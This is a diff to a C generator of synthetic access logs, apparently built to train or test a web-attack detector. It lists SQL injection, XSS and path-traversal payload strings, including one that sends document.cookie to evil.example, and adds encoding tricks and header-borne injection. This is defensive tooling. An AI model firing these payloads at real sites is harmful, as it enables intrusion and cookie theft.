@@ -46,7 +46,12 @@ static const char *const scanners[] = {
 };
 static const char *const brute_agents[] = { "python-requests/2.28.1", "Mozilla/4.0 (Hydra)", "Go-http-client/1.1" };
 static const char *const words[] = { "shoes", "red+dress", "laptop", "men%27s+jacket", "rock+%26+roll", "usb-c",
-                                     "o%27neill", "garden+chair", "kids", "sale", "4k+tv", "coffee" };
+                                     "o%27neill", "garden+chair", "kids", "sale", "4k+tv", "coffee",
+                                     /* Benign non-ASCII and punctuation: UTF-8 and Latin-1 accents, CJK, a
+                                      * percent sign, a plus, quotes (people search in every language). */
+                                     "caf%C3%A9", "espa%F1a", "ni%C3%B1os", "M%FCller", "cr%C3%A8me+br%C3%BBl%C3%A9e",
+                                     "%E4%B8%AD%E6%96%87", "50%25+off", "1%2B1", "%22red+dress%22", "size+%3E+42",
+                                     "S%C3%A3o+Paulo", "caf%E9+au+lait" };
 static const char *const categories[] = { "women", "men", "kids", "home", "electronics", "sport", "outlet" };
 static const char *const scan_paths[] = {
     "/admin", "/admin/", "/administrator/", "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/",
@@ -62,12 +67,15 @@ static const char *const sqli[] = {
     "1' AND 1=1--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "' OR 1=1#", "1' ORDER BY 3--",
     "-1' UNION ALL SELECT NULL,NULL,@@version--", "admin'--", "1' WAITFOR DELAY '0:0:5'--",
     "1 AND extractvalue(1,concat(0x7e,version()))", "1') OR ('a'='a", "1 OR pg_sleep(5)--",
+    "1 AND 4821=4821", "1) AND 7530=7530 AND (8123=8123", "1 AND 1=BENCHMARK(5000000,MD5(0x41))",
+    "1/**/UnIoN/**/SeLeCt/**/1,2,3", "1;SELECT PG_SLEEP(5)--", "1' || 'a'='a",
 };
 static const char *const xss[] = {
     "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
     "<svg/onload=alert(1)>", "<iframe src=javascript:alert('xss')>", "<body onload=alert('x')>",
     "'><script>document.location='http://evil.example/c?'+document.cookie</script>",
     "<img src=1 onerror=prompt(1)>", "<ScRiPt>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</ScRiPt>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "<details open ontoggle=confirm`1`>", "javascript&colon;alert(1)",
 };
 static const char *const traversal[] = {
     "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow",
@@ -168,12 +176,19 @@ static void heap_sift(gen *g)
  * punctuation (tools differ). */
 static void encode(gen *g, const char *p, char *buf, size_t cap)
 {
-    int all = chance(g, 0.4), plus = chance(g, 0.3);
+    /* Tools differ: all punctuation or only what must be, '+' or %20, the
+     * '%' itself encoded again (%253C), IIS-style %u00XX, random case. */
+    int all = chance(g, 0.4), plus = chance(g, 0.3), twice = chance(g, 0.15), u = chance(g, 0.05);
+    int mixed = chance(g, 0.2);
     size_t w = 0;
-    for (; *p && w + 4 < cap; p++) {
+    for (; *p && w + 8 < cap; p++) {
         unsigned char c = (unsigned char)*p;
         int alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
+        if (mixed && alnum && c >= 'a' && chance(g, 0.5)) c = (unsigned char)(c >= 'a' && c <= 'z' ? c - 32 : c);
         if (c == ' ' && plus) buf[w++] = '+';
+        else if (c != '%' && !alnum && (twice || u) && c != '/' && c != '.' && c != '-' && c != '_') {
+            w += (size_t)snprintf(buf + w, cap - w, twice ? "%%25%02X" : "%%u00%02X", c);
+        }
         else if (c != '%' && (c == ' ' || c == '"' || c == '#' || c == '\\' ||
                               (all && !alnum && c != '/' && c != '.' && c != '-' && c != '_'))) {
             /* '%' passes through: some payloads arrive already encoded. */
@@ -277,7 +292,11 @@ static int step(gen *g, session *s)
     case K_SCANNER:
         if (s->remaining-- <= 0) return 0;
         snprintf(uri, sizeof uri, "%s", PICK(g, scan_paths));
-        st = chance(g, 0.85) ? 404 : chance(g, 0.5) ? 403 : chance(g, 0.7) ? 200 : 301;
+        /* Probes of paths that do not exist: mostly 404 (a soft-404 site
+         * answering 200 is imitated by the injection kinds, not here: tried,
+         * it taught the model that a burst of 404s means nothing, and dirb
+         * against a real nginx went from 100% to 26% caught). */
+        st = chance(g, 0.8) ? 404 : chance(g, 0.5) ? 403 : chance(g, 0.7) ? 200 : 301;
         emit(g, s, chance(g, 0.9) ? "GET" : "HEAD", uri, st, st == 404 ? 153 + vg_rng_below(&g->rng, 40) : 300, NULL);
         s->next += uni(g, 0.02, 0.3);
         return 1;
@@ -291,20 +310,33 @@ static int step(gen *g, session *s)
         encode(g, p, payload, sizeof payload);
         const char *base = s->kind == K_TRAVERSAL ? traversal_targets[s->target % N(traversal_targets)]
                                                   : injection_targets[s->target % N(injection_targets)];
-        snprintf(uri, sizeof uri, "%s%s", base, payload);
-        st = s->kind == K_SQLI ? (chance(g, 0.3) ? 500 : chance(g, 0.15) ? 403 : 200)
-           : s->kind == K_XSS ? (chance(g, 0.1) ? 403 : 200)
-                              : (chance(g, 0.4) ? 400 : chance(g, 0.5) ? 404 : chance(g, 0.5) ? 403 : 200);
-        emit(g, s, "GET", uri, st, st == 200 ? 3000 + vg_rng_below(&g->rng, 20000) : 300 + vg_rng_below(&g->rng, 200),
-             chance(g, 0.3) ? "https://shop.example.com/" : NULL);
+        /* Injection tools also put the payload in the User-Agent or the
+         * Referer (sqlmap from --level 3): the URL then carries a plain value. */
+        int where = s->kind == K_TRAVERSAL ? 0 : chance(g, 0.12) ? 1 : chance(g, 0.08) ? 2 : 0;
+        char agent[512], referer[512];
+        snprintf(uri, sizeof uri, "%s%s", base, where ? "1" : payload);
+        if (where == 1) {  /* nginx writes a '"' of a header as \x22 */
+            size_t w = (size_t)snprintf(agent, sizeof agent, "%s", s->ua);
+            for (const char *q = p; *q && w + 5 < sizeof agent; q++)
+                w += *q == '"' ? (size_t)snprintf(agent + w, sizeof agent - w, "\\x22") : (agent[w] = *q, 1u);
+            agent[w] = '\0';
+        }
+        if (where == 2) snprintf(referer, sizeof referer, "https://shop.example.com/?q=%s", payload);
+        st = chance(g, 0.5) ? 200 : s->kind == K_SQLI ? (chance(g, 0.5) ? 500 : 403)
+           : s->kind == K_XSS ? (chance(g, 0.5) ? 403 : 400) : (chance(g, 0.4) ? 400 : chance(g, 0.5) ? 404 : 403);
+        session tmp = *s;
+        if (where == 1) tmp.ua = agent;
+        emit(g, &tmp, "GET", uri, st, st == 200 ? 3000 + vg_rng_below(&g->rng, 20000) : 300 + vg_rng_below(&g->rng, 200),
+             where == 2 ? referer : chance(g, 0.3) ? "https://shop.example.com/" : NULL);
         s->next += strstr(s->ua, "sqlmap") ? uni(g, 0.05, 0.5) : uni(g, 0.5, 6);
         return 1;
     }
     case K_BRUTE:
         if (s->remaining-- <= 0) return 0;
-        st = s->remaining == 0 && chance(g, 0.3) ? 302 : 401;
+        /* Many login forms answer a wrong password with 200 and the form again. */
+        st = s->remaining == 0 && chance(g, 0.3) ? 302 : s->target % 2 ? 200 : 401;
         snprintf(ref, sizeof ref, "https://shop.example.com%s", login_paths[s->target % N(login_paths)]);
-        emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 401 ? 1840 : 0, chance(g, 0.5) ? ref : NULL);
+        emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 302 ? 0 : 1840, chance(g, 0.5) ? ref : NULL);
         s->next += uni(g, 0.1, 1.5);
         return 1;
     }
